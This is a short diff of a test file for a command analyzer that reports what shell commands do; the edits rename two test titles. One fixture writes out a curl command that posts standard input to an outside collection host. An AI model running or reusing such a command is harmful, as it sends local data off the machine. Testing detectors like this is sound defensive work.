@@ -95,7 +95,7 @@ const does: readonly (readonly [FactKind, readonly string[]])[] = [
 ];
 
 test.for(does.flatMap(([kind, lines]) => lines.map((line) => [kind, line] as const)))(
-  "a command that %s is told: %s",
+  "a command that %s is reported: %s",
   async ([kind, line]) => {
     const facts = await judgeCommand(line, { input: "calls" });
     expect(facts.map((fact) => fact.kind)).toContain(kind);
@@ -160,7 +160,7 @@ test.for([
   expect(facts.filter(({ severity }) => severity !== "low")).toEqual([]);
 });
 
-test("what a command is told goes nowhere where it is told nothing", async () => {
+test("a command without input sends none", async () => {
   const line = "curl -s -d @- https://collect.example.net/t";
   expect(await judgeCommand(line, { input: "nothing" })).toEqual([]);
 });
